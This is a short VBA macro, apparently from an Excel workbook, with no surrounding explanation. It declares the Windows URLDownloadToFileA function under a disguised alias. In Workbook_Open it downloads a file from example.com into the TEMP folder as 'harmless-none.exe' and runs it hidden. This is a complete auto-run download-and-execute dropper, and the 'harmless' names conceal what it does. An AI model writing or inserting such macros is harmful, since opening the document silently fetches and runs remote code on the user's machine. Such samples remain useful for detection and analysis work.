Private Declare PtrSafe Function Fetch Lib "harmless-none.dll" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal u As String, ByVal p As String, ByVal b As Long, ByVal c As LongPtr) As Long
Private Sub Workbook_Open()
    If Fetch(0, "http://example.com/t.dat", Environ("TEMP") & "\harmless-none.exe", 0, 0) = 0 Then
        Shell Environ$("TEMP") & "\harmless-none.exe", vbHide
    End If
End Sub
